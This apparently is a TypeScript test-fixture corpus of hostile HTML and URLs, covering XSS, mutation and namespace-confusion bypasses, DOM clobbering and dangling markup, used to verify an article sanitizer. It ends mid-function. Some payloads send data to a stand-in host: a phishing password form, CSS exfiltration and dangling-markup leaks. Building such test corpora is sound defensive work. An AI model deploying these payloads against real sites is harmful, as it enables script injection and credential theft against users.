/**
 * A corpus of hostile HTML for the article sanitizer and for every text and
 * URL field of a feed, and the one definition of "nothing dangerous remains"
 * that both security test files check against.
 *
 * Every payload that tries to run code calls the global marker
 * `__xss('<id>')` (from a frame: `parent.__xss(…)`), or names itself
 * `__xss_hit` (clobbering), so a test can tell whether anything ran. The
 * `name` of each payload says which trick it plays.
 *
 * Data only, no side effects: importing this file defines no marker; the tests do.
 */

export type PayloadCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'namespace-confusion'
  | 'mutation-xss'
  | 'dom-clobbering'
  | 'srcset'
  | 'style'
  | 'navigation'
  | 'form'
  | 'iframe'
  | 'plugin'
  | 'shadow-dom'
  | 'link-rel'
  | 'media'
  | 'legacy'
  | 'parser-trick'
  | 'dangling-markup'
  | 'template-injection'
  | 'custom-element';

export interface XssPayload {
  /** What the payload tries, and how. */
  name: string;
  html: string;
  category: PayloadCategory;
  /** A selector that must still match after sanitizing: what a safe version of the payload keeps. */
  keeps?: string;
  /** Text that must still be there, as text (e.g. a template expression that must stay inert). */
  text?: string;
}

/** The hosts whose https iframes the tests allow (`embedHosts` / `embed-hosts`). */
export const EMBED_HOSTS = ['www.youtube.com'];

const YT = 'https://www.youtube.com/embed/dQw4w9WgXcQ';
/** What an allowed embed looks like after sanitizing: kept, from the allowed host, sandboxed. */
const SANDBOXED_YT = 'iframe[src^="https://www.youtube.com/embed/"][sandbox]';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // ── <script> ────────────────────────────────────────────────────────────
  { category: 'script', name: 'plain <script>', html: `<script>__xss('script')</script>` },
  { category: 'script', name: 'uppercase <SCRIPT> (case-insensitive tag names)', html: `<SCRIPT>__xss('script-upper')</SCRIPT>` },
  {
    category: 'script',
    name: 'split <scr<script>ipt>: beats a filter that strips "<script>" once',
    html: `<scr<script>ipt>__xss('script-split')</scr</script>ipt>`,
  },
  { category: 'script', name: '<script src> from another host', html: `<script src="https://evil.example/xss.js"></script>` },
  { category: 'script', name: '<script src> with a data: URL', html: `<script src="data:text/javascript,__xss('script-src-data')"></script>` },
  { category: 'script', name: '<script> inside <svg> (foreign content)', html: `<svg><script>__xss('svg-script')</script></svg>` },
  {
    category: 'script',
    name: 'a "</script>" inside a JS comment ends the script early: the <img> after it is real markup',
    html: `<script>/*</script><img src=x onerror="__xss('script-comment-break')">*/</script>`,
  },

  // ── event handlers ──────────────────────────────────────────────────────
  { category: 'event-handler', name: '<img src=x onerror>', html: `<img src=x onerror="__xss('img-onerror')">` },
  { category: 'event-handler', name: 'mixed-case handler name (oNeRrOr)', html: `<img src=x oNeRrOr="__xss('img-onerror-case')">` },
  {
    category: 'event-handler',
    name: 'handler after a "/" separator instead of a space',
    html: `<img src="x"/onerror="__xss('img-slash-separator')">`,
  },
  { category: 'event-handler', name: '<image> (the parser renames it <img>) with onerror', html: `<image src=x onerror="__xss('image-alias')">` },
  { category: 'event-handler', name: '<body onload> inside a fragment', html: `<body onload="__xss('body-onload')">text</body>` },
  { category: 'event-handler', name: '<svg onload>', html: `<svg onload="__xss('svg-onload')"></svg>` },
  {
    category: 'event-handler',
    name: 'onfocus with autofocus (fires without a click) on a focusable div',
    html: `<div tabindex="0" autofocus onfocus="__xss('div-onfocus-autofocus')">focus</div>`,
  },
  {
    category: 'event-handler',
    name: 'onfocus with autofocus on an <input>',
    html: `<input autofocus onfocus="__xss('input-onfocus-autofocus')">`,
  },
  {
    category: 'event-handler',
    name: 'onmouseover on a full-page overlay (fires as soon as the mouse moves)',
    html: `<div onmouseover="__xss('onmouseover')" style="position:fixed;inset:0">move</div>`,
  },
  {
    category: 'event-handler',
    name: '<details open ontoggle>: fires on insertion, no interaction',
    html: `<details open ontoggle="__xss('details-ontoggle')"><summary>s</summary>d</details>`,
    keeps: 'details',
  },
  {
    category: 'event-handler',
    name: 'SVG <animate onbegin>: fires when the animation starts',
    html: `<svg><animate onbegin="__xss('svg-animate-onbegin')" attributeName="x" dur="1s"></animate></svg>`,
  },
  {
    category: 'event-handler',
    name: 'onanimationstart with a CSS animation from a <style> block',
    html: `<style>@keyframes xss{from{opacity:.9}to{opacity:1}}</style><p style="animation:xss 1s" onanimationstart="__xss('onanimationstart')">a</p>`,
  },
  { category: 'event-handler', name: '<a onclick> (href kept, handler gone)', html: `<a href="/ok" onclick="__xss('a-onclick')">x</a>`, keeps: `a[href="${location.origin}/ok"]` },
  {
    category: 'event-handler',
    name: 'allowed iframe with an onload handler: embed kept, handler gone',
    html: `<iframe src="${YT}" onload="__xss('iframe-onload')"></iframe>`,
    keeps: SANDBOXED_YT,
  },

  // ── javascript: URLs ────────────────────────────────────────────────────
  { category: 'javascript-url', name: '<a href="javascript:">', html: `<a href="javascript:__xss('a-js')">x</a>` },
  { category: 'javascript-url', name: 'JaVaScRiPt: (schemes are case-insensitive)', html: `<a href="JaVaScRiPt:__xss('a-js-case')">x</a>` },
  { category: 'javascript-url', name: '&#106;avascript: (decimal entity)', html: `<a href="&#106;avascript:__xss('a-js-dec-entity')">x</a>` },
  { category: 'javascript-url', name: '&#x6A;avascript: (hex entity)', html: `<a href="&#x6A;avascript:__xss('a-js-hex-entity')">x</a>` },
  {
    category: 'javascript-url',
    name: '&#x0000006A;avascript: (hex entity with leading zeros)',
    html: `<a href="&#x0000006A;avascript:__xss('a-js-zero-padded')">x</a>`,
  },
  { category: 'javascript-url', name: 'java&#x09;script: (tab: URL parsers drop it)', html: `<a href="java&#x09;script:__xss('a-js-tab')">x</a>` },
  { category: 'javascript-url', name: 'java&#x0A;script: (newline: URL parsers drop it)', html: `<a href="java&#x0A;script:__xss('a-js-newline')">x</a>` },
  { category: 'javascript-url', name: 'jav&#x0D;ascript: (carriage return)', html: `<a href="jav&#x0D;ascript:__xss('a-js-cr')">x</a>` },
  { category: 'javascript-url', name: 'javascript&colon; (named entity for ":")', html: `<a href="javascript&colon;__xss('a-js-colon-entity')">x</a>` },
  {
    category: 'javascript-url',
    name: 'leading spaces, newlines and a tab before javascript:',
    html: `<a href="  \n\t javascript:__xss('a-js-leading-space')">x</a>`,
  },
  { category: 'javascript-url', name: '&#1;javascript: (leading C0 control, stripped by URL parsers)', html: `<a href="&#1;javascript:__xss('a-js-c0')">x</a>` },
  { category: 'javascript-url', name: 'a NUL before javascript: (the HTML parser makes it U+FFFD)', html: `<a href="\u0000javascript:__xss('a-js-nul')">x</a>` },
  { category: 'javascript-url', name: 'javascript://comment%0A (code after an encoded newline)', html: `<a href="javascript://%0A__xss('a-js-comment')">x</a>` },
  { category: 'javascript-url', name: '<img src="javascript:">', html: `<img src="javascript:__xss('img-src-js')">` },
  { category: 'javascript-url', name: '<iframe src="javascript:">', html: `<iframe src="javascript:parent.__xss('iframe-src-js')"></iframe>` },
  {
    category: 'javascript-url',
    name: '<form action="javascript:"> with a submit button',
    html: `<form action="javascript:__xss('form-action-js')"><button>go</button></form>`,
  },
  { category: 'javascript-url', name: '<button formaction="javascript:">', html: `<button formaction="javascript:__xss('button-formaction-js')">go</button>` },
  {
    category: 'javascript-url',
    name: 'SVG <a xlink:href="javascript:">',
    html: `<svg><a xlink:href="javascript:__xss('svg-xlink-js')"><text x="0" y="10">x</text></a></svg>`,
  },
  {
    category: 'javascript-url',
    name: 'SVG <animate> that rewrites an <a> href to javascript:',
    html: `<svg><a><animate attributeName="href" values="javascript:__xss('svg-animate-href')"></animate><text x="0" y="10">x</text></a></svg>`,
  },
  { category: 'javascript-url', name: 'MathML element with href="javascript:"', html: `<math href="javascript:__xss('math-href-js')"><mi>x</mi></math>` },
  {
    category: 'javascript-url',
    name: '<area href="javascript:"> in an image map',
    html: `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:__xss('area-js')"></map>`,
  },
  { category: 'javascript-url', name: '<video poster="javascript:">', html: `<video poster="javascript:__xss('video-poster-js')"></video>` },
  { category: 'javascript-url', name: '<blockquote cite="javascript:">', html: `<blockquote cite="javascript:__xss('cite-js')">q</blockquote>` },
  { category: 'javascript-url', name: '<table background="javascript:"> (legacy attribute)', html: `<table background="javascript:__xss('table-background-js')"><tr><td>t</td></tr></table>` },
  { category: 'javascript-url', name: 'vbscript: (old IE)', html: `<a href="vbscript:msgbox('xss')">x</a>` },

  // ── data: URLs ──────────────────────────────────────────────────────────
  { category: 'data-url', name: '<a href="data:text/html">', html: `<a href="data:text/html,<script>parent.__xss('a-data-html')</script>">x</a>` },
  {
    category: 'data-url',
    name: '<a href="data:text/html;base64">',
    html: `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoImRhdGEtYmFzZTY0Iik8L3NjcmlwdD4=">x</a>`,
  },
  {
    category: 'data-url',
    name: '<img src="data:image/svg+xml"> with an onload inside',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(1)'/>">`,
  },
  { category: 'data-url', name: '<iframe src="data:text/html">', html: `<iframe src="data:text/html,<script>parent.__xss('iframe-data')</script>"></iframe>` },
  {
    category: 'data-url',
    name: '<object data="data:image/svg+xml"> with a script inside',
    html: `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>parent.__xss('object-data-svg')</script></svg>"></object>`,
  },
  {
    category: 'data-url',
    name: '<embed src="data:image/svg+xml;base64">',
    html: `<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9feHNzKCZhcG9zO2VtYmVkLXN2Zy1iYXNlNjQmYXBvczspIi8+">`,
  },
  {
    category: 'data-url',
    name: '<svg><use href="data:…"> pulling in a script-bearing SVG, next to an <img onerror>',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(1)'/></svg>#x"></use></svg><img src=x onerror="__xss('svg-use-data')">`,
  },
  { category: 'data-url', name: '<video><source src="data:">', html: `<video><source src="data:video/mp4;base64,AAAA"></video>` },

  // ── namespace confusion (SVG / MathML) ──────────────────────────────────
  {
    category: 'namespace-confusion',
    name: '<svg><p><style><img onerror>: <p> leaves SVG, <style> text may become markup',
    html: `<svg><p><style><img src=x onerror="__xss('svg-p-style')"></style></p></svg>`,
  },
  {
    category: 'namespace-confusion',
    name: '<svg></p><style><a id="</style><img onerror>"> (DOMPurify 2.0.0 bypass)',
    html: `<svg></p><style><a id="</style><img src=1 onerror=__xss('svg-p-close')>">`,
  },
  {
    category: 'namespace-confusion',
    name: '<math><mtext><table><mglyph><style><img onerror> (MathML text integration point)',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="__xss('math-mglyph-style')"></style></mglyph></table></mtext></math>`,
  },
  {
    category: 'namespace-confusion',
    name: '<math><mtext><table><mglyph><style><!--</style><img title="--></mglyph><img onerror>"> (DOMPurify 2.2.2 bypass)',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss('math-comment')&gt;">`,
  },
  {
    category: 'namespace-confusion',
    name: '<svg><foreignObject> back into HTML with an <img onerror>',
    html: `<svg><foreignObject><img src=x onerror="__xss('svg-foreignobject')"></foreignObject></svg>`,
  },
  {
    category: 'namespace-confusion',
    name: '<math><annotation-xml encoding="text/html"> HTML island',
    html: `<math><annotation-xml encoding="text/html"><img src=x onerror="__xss('math-annotation-xml')"></annotation-xml></math>`,
  },
  {
    category: 'namespace-confusion',
    name: '<svg><style> with an <img> (breaks out of foreign content)',
    html: `<svg><style><img src=x onerror="__xss('svg-style-img')"></style></svg>`,
  },

  // ── mutation XSS ────────────────────────────────────────────────────────
  {
    category: 'mutation-xss',
    name: '<noscript><p title="</noscript><img onerror>"> (parsed differently with scripting on)',
    html: `<noscript><p title="</noscript><img src=x onerror=__xss('noscript-title')>"></p></noscript>`,
  },
  {
    category: 'mutation-xss',
    name: '<form><math><mtext></form><form><mglyph><style></math><img onerror> (DOMPurify 2.0.17 bypass)',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss('form-math-mglyph')>`,
  },
  {
    category: 'mutation-xss',
    name: '<xmp><p title="</xmp><img onerror>"> (raw text element)',
    html: `<xmp><p title="</xmp><img src=x onerror=__xss('xmp-title')>"></xmp>`,
  },
  {
    category: 'mutation-xss',
    name: '<noembed><img title="</noembed><img onerror>">',
    html: `<noembed><img title="</noembed><img src=x onerror=__xss('noembed-title')>"></noembed>`,
  },
  {
    category: 'mutation-xss',
    name: '<listing> with escaped markup (serialization round trip)',
    html: `<listing>&lt;img src=x onerror=__xss('listing')&gt;</listing>`,
  },
  {
    category: 'mutation-xss',
    name: 'deep nesting (600 <div>s) around an <img onerror>: depth limits and parser quirks',
    html: `${'<div>'.repeat(600)}<img src=x onerror="__xss('deep-nesting')">${'</div>'.repeat(600)}`,
  },
  {
    category: 'mutation-xss',
    name: 'escaped markup in an attribute stays an attribute',
    html: `<p title="&lt;img src=x onerror=__xss('escaped-title')&gt;">t</p>`,
    keeps: 'p[title]',
  },

  // ── DOM clobbering ──────────────────────────────────────────────────────
  { category: 'dom-clobbering', name: '<img name=cookie> (document.cookie)', html: `<img name="cookie" src="https://ok.example/a.jpg">` },
  { category: 'dom-clobbering', name: '<form id=location>', html: `<form id="location"></form>` },
  { category: 'dom-clobbering', name: '<a id=defaultView> (document.defaultView)', html: `<a id="defaultView" href="/x">x</a>` },
  { category: 'dom-clobbering', name: '<form><input name=attributes> (form.attributes)', html: `<form><input name="attributes"></form>` },
  { category: 'dom-clobbering', name: '<img name=getElementById> (document.getElementById)', html: `<img name="getElementById" src="https://ok.example/a.jpg">` },
  { category: 'dom-clobbering', name: '<img name=body> and <form name=createElement>', html: `<img name="body"><form name="createElement"></form>` },
  { category: 'dom-clobbering', name: '<a id=__xss_hit>: clobbers the marker itself onto window', html: `<a id="__xss_hit" href="/x">x</a>` },
  {
    category: 'dom-clobbering',
    name: 'two <a id=config>, one with name=url: an HTMLCollection on window.config (config.url)',
    html: `<a id="config"></a><a id="config" name="url" href="javascript:__xss('clobber-collection')">x</a>`,
  },
  {
    category: 'dom-clobbering',
    name: 'allowed iframe named __xss_hit: a WindowProxy on window.__xss_hit',
    html: `<iframe name="__xss_hit" src="${YT}"></iframe>`,
    keeps: SANDBOXED_YT,
  },

  // ── srcset ──────────────────────────────────────────────────────────────
  { category: 'srcset', name: 'srcset with a javascript: candidate', html: `<img srcset="javascript:__xss('srcset-js') 1x">` },
  {
    category: 'srcset',
    name: 'srcset: a good candidate, then a data:image/svg+xml one',
    html: `<img src="https://ok.example/a.jpg" srcset="https://ok.example/a.jpg 1x, data:image/svg+xml,<svg/onload=__xss(1)> 2x">`,
  },
  {
    category: 'srcset',
    name: 'srcset: a javascript: candidate right after a comma, no space',
    html: `<img srcset="https://ok.example/a.jpg 1x,javascript:__xss('srcset-nospace') 2x">`,
  },
  {
    category: 'srcset',
    name: '<picture><source srcset="data:"> (base64)',
    html: `<picture><source srcset="data:image/png;base64,iVBORw0KGgo= 1x"><img src="https://ok.example/a.jpg"></picture>`,
  },

  // ── style and overlays ──────────────────────────────────────────────────
  {
    category: 'style',
    name: 'full-page overlay: position:fixed, inset:0, z-index:9999 (fake login / clickjacking)',
    html: `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Đăng nhập lại</div>`,
  },
  { category: 'style', name: '<style>*{…}</style> restyling the whole page', html: `<style>*{display:none!important}</style><p>p</p>` },
  { category: 'style', name: '<style>@import from another host', html: `<style>@import url(https://evil.example/x.css);</style>` },
  { category: 'style', name: '<link rel=stylesheet> from another host', html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { category: 'style', name: 'style="background:url(javascript:…)"', html: `<p style="background:url(javascript:__xss('style-url-js'))">p</p>` },
  {
    category: 'style',
    name: 'CSS exfiltration: attribute selectors that load a URL per matching value',
    html: `<style>input[value^="a"]{background:url(https://evil.example/?a)}</style>`,
  },

  // ── navigation: <base>, <meta refresh> ──────────────────────────────────
  { category: 'navigation', name: '<base href="javascript:"> then a relative link', html: `<base href="javascript:__xss('base-js')//"><a href="/x">x</a>` },
  { category: 'navigation', name: '<base href> to another host (hijacks every relative URL)', html: `<base href="https://evil.example/"><a href="x">x</a>` },
  {
    category: 'navigation',
    name: '<meta http-equiv=refresh content="0;url=javascript:…">',
    html: `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta-refresh-js')">`,
  },
  {
    category: 'navigation',
    name: '<meta http-equiv=refresh> to another host (takes over the portal page)',
    html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  },

  // ── forms (phishing) ────────────────────────────────────────────────────
  {
    category: 'form',
    name: 'phishing form: password field posting to another host',
    html: `<form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="password" placeholder="Mật khẩu"><button>Đăng nhập</button></form>`,
  },
  { category: 'form', name: '<input type=image src=x onerror>', html: `<input type="image" src="x" onerror="__xss('input-image-onerror')">` },
  { category: 'form', name: '<select autofocus onfocus>', html: `<select autofocus onfocus="__xss('select-onfocus')"><option>o</option></select>` },
  {
    category: 'form',
    name: '<textarea></textarea><img onerror>: breaking out of RCDATA',
    html: `<textarea></textarea><img src=x onerror="__xss('textarea-breakout')">`,
  },
  {
    category: 'form',
    name: '<textarea> holding markup (must stay text, never become elements)',
    html: `<textarea><img src=x onerror="__xss('textarea-content')"></textarea>`,
  },
  { category: 'form', name: 'a button whose popovertarget opens a hidden overlay', html: `<button popovertarget="p">open</button><div popover id="p">overlay</div>` },

  // ── iframes ─────────────────────────────────────────────────────────────
  { category: 'iframe', name: '<iframe srcdoc="<script>…">', html: `<iframe srcdoc="<script>parent.__xss('iframe-srcdoc')</script>"></iframe>` },
  {
    category: 'iframe',
    name: 'allowed host with srcdoc too (srcdoc wins over src)',
    html: `<iframe src="${YT}" srcdoc="<script>parent.__xss('iframe-srcdoc-allowed')</script>"></iframe>`,
  },
  { category: 'iframe', name: '<iframe> from a host that is not allowed', html: `<iframe src="https://evil.example/"></iframe>` },
  { category: 'iframe', name: 'allowed https host: kept, sandboxed', html: `<iframe src="${YT}" allowfullscreen></iframe>`, keeps: SANDBOXED_YT },
  { category: 'iframe', name: 'allowed host over http: removed', html: `<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>` },
  { category: 'iframe', name: 'allowed host as a prefix of another host', html: `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>` },
  { category: 'iframe', name: 'allowed host as userinfo before another host', html: `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>` },
  { category: 'iframe', name: 'relative iframe src (same origin as the portal)', html: `<iframe src="/admin"></iframe>` },
  {
    category: 'iframe',
    name: 'allowed host with its own lax sandbox (top navigation): replaced',
    html: `<iframe src="${YT}" sandbox="allow-scripts allow-same-origin allow-top-navigation allow-forms"></iframe>`,
    keeps: SANDBOXED_YT,
  },
  {
    category: 'iframe',
    name: 'allowed host delegated camera, microphone and location by the feed (allow=…): the prompt names the portal',
    html: `<iframe src="${YT}" allow="camera *; microphone *; geolocation *; display-capture *"></iframe>`,
    keeps: SANDBOXED_YT,
  },
  { category: 'iframe', name: '<iframe> with no src (about:blank, same origin)', html: `<iframe></iframe>` },
  {
    category: 'iframe',
    name: '<iframe> fallback content with a breakout title',
    html: `<iframe><img title="</iframe><img src=x onerror=__xss('iframe-content')>"></iframe>`,
  },
  { category: 'iframe', name: '<frameset><frame src="javascript:">', html: `<frameset><frame src="javascript:parent.__xss('frame-js')"></frameset>` },

  // ── plugins ─────────────────────────────────────────────────────────────
  { category: 'plugin', name: '<object data> from another host', html: `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>` },
  { category: 'plugin', name: '<object data="javascript:">', html: `<object data="javascript:__xss('object-js')"></object>` },
  { category: 'plugin', name: '<embed src> from another host', html: `<embed src="https://evil.example/x.swf">` },
  { category: 'plugin', name: '<embed src="javascript:">', html: `<embed src="javascript:__xss('embed-js')">` },
  { category: 'plugin', name: '<applet code>', html: `<applet code="Evil.class" codebase="https://evil.example/"></applet>` },

  // ── declarative shadow DOM ──────────────────────────────────────────────
  {
    category: 'shadow-dom',
    name: '<template shadowrootmode=open> with an <img onerror> (hidden from light-DOM sanitizers)',
    html: `<div><template shadowrootmode="open"><img src=x onerror="__xss('dsd-open')"></template></div>`,
  },
  {
    category: 'shadow-dom',
    name: '<template shadowrootmode=closed>',
    html: `<div><template shadowrootmode="closed"><img src=x onerror="__xss('dsd-closed')"></template></div>`,
  },
  {
    category: 'shadow-dom',
    name: 'legacy <template shadowroot=open>',
    html: `<div><template shadowroot="open"><img src=x onerror="__xss('dsd-legacy')"></template></div>`,
  },
  { category: 'shadow-dom', name: 'plain <template> content', html: `<template><img src=x onerror="__xss('template')"></template>` },

  // ── links that leave the page (rel) ─────────────────────────────────────
  {
    category: 'link-rel',
    name: 'target=_blank without rel (reverse tabnabbing)',
    html: `<a href="https://other.example/" target="_blank">x</a>`,
    keeps: 'a[href="https://other.example/"][rel~="noopener"][rel~="noreferrer"]',
  },
  {
    category: 'link-rel',
    name: 'external https link: gets rel',
    html: `<a href="https://other.example">x</a>`,
    keeps: 'a[href="https://other.example/"][rel~="noopener"][rel~="noreferrer"]',
  },
  {
    category: 'link-rel',
    name: 'external link asking for rel=opener',
    html: `<a href="https://other.example/" rel="opener" target="_blank">x</a>`,
    keeps: 'a[rel~="noopener"][rel~="noreferrer"]',
  },
  { category: 'link-rel', name: 'protocol-relative //other.example link is external', html: `<a href="//other.example/x">x</a>`, keeps: 'a[rel~="noopener"][rel~="noreferrer"]' },
  { category: 'link-rel', name: '/\\other.example: a backslash makes it protocol-relative', html: `<a href="/\\other.example/">x</a>`, keeps: 'a[rel~="noopener"][rel~="noreferrer"]' },
  { category: 'link-rel', name: 'https:other.example (no slashes, from an http page) is external', html: `<a href="https:other.example">x</a>`, keeps: 'a[rel~="noopener"][rel~="noreferrer"]' },
  {
    category: 'link-rel',
    name: '<area href> to another host with target=_blank (a link too)',
    html: `<map name="m"><area shape="rect" coords="0,0,10,10" href="https://other.example/" target="_blank"></map>`,
  },
  {
    category: 'link-rel',
    name: 'referrerpolicy=unsafe-url: leaks the portal page\'s full URL (query included) to another host',
    html: `<img src="https://evil.example/pixel.gif" referrerpolicy="unsafe-url"><a href="https://other.example/" referrerpolicy="unsafe-url">x</a>`,
  },
  { category: 'link-rel', name: '<a ping> (tracking beacon on click)', html: `<a href="/x" ping="https://evil.example/ping">x</a>` },

  // ── media ───────────────────────────────────────────────────────────────
  { category: 'media', name: '<video><source onerror>', html: `<video><source onerror="__xss('video-source-onerror')"></video>` },
  { category: 'media', name: '<audio src=x onerror>', html: `<audio src=x onerror="__xss('audio-onerror')"></audio>` },
  { category: 'media', name: '<video src=x onerror>', html: `<video src=x onerror="__xss('video-onerror')"></video>` },
  { category: 'media', name: '<track src="javascript:">', html: `<video><track src="javascript:__xss('track-js')"></video>` },

  // ── legacy elements ─────────────────────────────────────────────────────
  { category: 'legacy', name: '<isindex> with an image type and onerror', html: `<isindex type="image" src="1" onerror="__xss('isindex')">` },
  { category: 'legacy', name: '<isindex action="javascript:">', html: `<isindex action="javascript:__xss('isindex-action')" type="submit" value="go">` },
  { category: 'legacy', name: '<marquee onstart>', html: `<marquee onstart="__xss('marquee-onstart')">m</marquee>` },
  { category: 'legacy', name: '<bgsound src="javascript:">', html: `<bgsound src="javascript:__xss('bgsound')">` },
  { category: 'legacy', name: '<plaintext> swallowing the rest of the document', html: `<plaintext><img src=x onerror="__xss('plaintext')">` },

  // ── parser tricks: comments, CDATA, raw text ────────────────────────────
  {
    category: 'parser-trick',
    name: '<!--<img src="--><img onerror>"> (the comment ends inside the attribute)',
    html: `<!--<img src="--><img src=x onerror=__xss('comment-break')//">`,
  },
  { category: 'parser-trick', name: '<!--> abruptly closed comment, then real markup', html: `<!--><img src=x onerror="__xss('comment-abrupt')">-->` },
  { category: 'parser-trick', name: 'CDATA in HTML (a bogus comment ending at the first ">")', html: `<![CDATA[><img src=x onerror="__xss('cdata-html')">]]>` },
  { category: 'parser-trick', name: 'CDATA in SVG (real CDATA: markup as text)', html: `<svg><![CDATA[><img src=x onerror="__xss('cdata-svg')">]]></svg>` },
  { category: 'parser-trick', name: 'processing instruction <?xml ?>', html: `<?xml ><img src=x onerror="__xss('processing-instruction')">?>` },
  { category: 'parser-trick', name: 'conditional comment <!--[if IE]>', html: `<!--[if IE]><img src=x onerror="__xss('conditional-comment')"><![endif]-->` },
  { category: 'parser-trick', name: '<title></title><img onerror>: breaking out of RCDATA', html: `<title></title><img src=x onerror="__xss('title-breakout')">` },
  { category: 'parser-trick', name: '<title> holding markup (RCDATA)', html: `<title><img src=x onerror="__xss('title-content')"></title>` },
  { category: 'parser-trick', name: '<style></style><img onerror>', html: `<style></style><img src=x onerror="__xss('style-breakout')">` },
  { category: 'parser-trick', name: '<noscript></noscript><img onerror>', html: `<noscript></noscript><img src=x onerror="__xss('noscript-breakout')">` },

  // ── dangling markup ─────────────────────────────────────────────────────
  {
    category: 'dangling-markup',
    name: "unterminated <img src='https://evil.example/? (would send the rest of the page)",
    html: `<p>visible</p><img src='https://evil.example/?`,
  },
  { category: 'dangling-markup', name: 'unterminated <a href="https://evil.example/?', html: `<a href="https://evil.example/?<p>secret</p>` },
  {
    category: 'dangling-markup',
    name: 'unterminated meta refresh URL',
    html: `<meta http-equiv="refresh" content='0;url=https://evil.example/?<p>secret</p>`,
  },
  { category: 'dangling-markup', name: 'unterminated <base target=', html: `<base target='<p>secret</p>` },

  // ── template injection (must stay inert text) ───────────────────────────
  {
    category: 'template-injection',
    name: 'AngularJS {{constructor.constructor(…)()}}',
    html: `<p>{{constructor.constructor('__xss("angular")')()}}</p>`,
    text: `{{constructor.constructor('__xss("angular")')()}}`,
  },
  { category: 'template-injection', name: 'JS template literal ${…}', html: `<p>\${__xss('template-literal')}</p>`, text: `\${__xss('template-literal')}` },
  { category: 'template-injection', name: 'ERB / JSP <%= … %>', html: `<p><%= __xss('erb') %></p>` },
  { category: 'template-injection', name: 'Vue v-html attribute gadget', html: `<div v-html="'<img src=x onerror=__xss(1)>'">v</div>` },
  { category: 'template-injection', name: 'Knockout data-bind gadget (data-* attribute)', html: `<div data-bind="html: '<img src=x onerror=__xss(1)>'">k</div>` },

  // ── custom elements ─────────────────────────────────────────────────────
  {
    category: 'custom-element',
    name: 'our own widget in a body, pointed at an attacker feed',
    html: `<news-list src="https://evil.example/feed.json"></news-list><news-article src="https://evil.example/feed.json"></news-article>`,
  },
  { category: 'custom-element', name: 'customized built-in (is=…)', html: `<p is="news-list">p</p>` },
];

/**
 * Hostile URLs for the URL fields of a feed (url, image, author and category
 * URLs, crumbs, home_page_url). As JSON strings, so escapes are real characters.
 */
export const URL_PAYLOADS: readonly { name: string; url: string }[] = [
  { name: 'javascript:', url: "javascript:__xss('url-js')" },
  { name: 'JaVaScRiPt: (case)', url: "JaVaScRiPt:__xss('url-js-case')" },
  { name: 'leading spaces and newlines', url: "  \n\t javascript:__xss('url-js-space')" },
  { name: 'leading NUL (URL parsers strip leading C0 controls)', url: "\u0000javascript:__xss('url-js-nul')" },
  { name: 'leading C0 control \\u0001', url: "\u0001javascript:__xss('url-js-c0')" },
  { name: 'tab inside the scheme', url: "java\tscript:__xss('url-js-tab')" },
  { name: 'newline inside the scheme', url: "java\nscript:__xss('url-js-newline')" },
  { name: 'HTML entity (not decoded in JSON: must not matter)', url: "&#106;avascript:__xss('url-js-entity')" },
  { name: 'javascript://comment%0A', url: "javascript://%0A__xss('url-js-comment')" },
  { name: 'data:text/html', url: "data:text/html,<script>parent.__xss('url-data-html')</script>" },
  { name: 'data:text/html;base64', url: 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoImRhdGEtYmFzZTY0Iik8L3NjcmlwdD4=' },
  { name: 'data:image/svg+xml with onload', url: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(1)'/>" },
  { name: 'vbscript:', url: "vbscript:msgbox('xss')" },
  { name: 'blob:', url: 'blob:https://evil.example/0b2c1f0e-0000-4000-8000-000000000000' },
  { name: 'file:', url: 'file:///etc/passwd' },
  { name: 'filesystem:', url: 'filesystem:https://evil.example/temporary/x' },
  { name: 'mailto: (not a link or image in a card)', url: 'mailto:x@evil.example' },
  { name: 'markup as a URL (becomes a relative path, never markup)', url: `"><img src=x onerror="__xss('url-markup')">` },
];

// ── what "nothing dangerous remains" means ──────────────────────────────────

/** Elements that must never come out of the sanitizer (or appear in a widget from feed data). */
export const FORBIDDEN_ELEMENTS = [
  'script', 'style', 'link', 'meta', 'base', 'form', 'input', 'button', 'textarea', 'select', 'option',
  'object', 'embed', 'applet', 'template', 'svg', 'math', 'frame', 'frameset', 'portal', 'dialog', 'noscript', 'isindex',
];

/** Attributes that hold a URL, and the schemes each may use ('' is a relative URL, resolved to the page's http(s)). */
const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'cite', 'background', 'longdesc', 'lowsrc', 'dynsrc', 'codebase', 'manifest', 'icon', 'ping', 'archive', 'classid', 'usemap'];
const ONLY_HTTP = new Set(['src', 'srcset', 'poster', 'data', 'lowsrc', 'dynsrc', 'codebase', 'archive', 'classid', 'background', 'manifest', 'icon', 'ping']);

/** The scheme a browser would use for this attribute value (after it strips controls, tabs and newlines). */
export function schemeOf(value: string): string {
  try {
    return new URL(value, document.baseURI).protocol;
  } catch {
    return 'unparsable:';
  }
}

/** Every URL in a srcset, conservatively: split at commas and spaces, descriptors (`2x`, `640w`) dropped. */
function srcsetUrls(value: string): string[] {
  return value
    .split(/[\s,]+/)
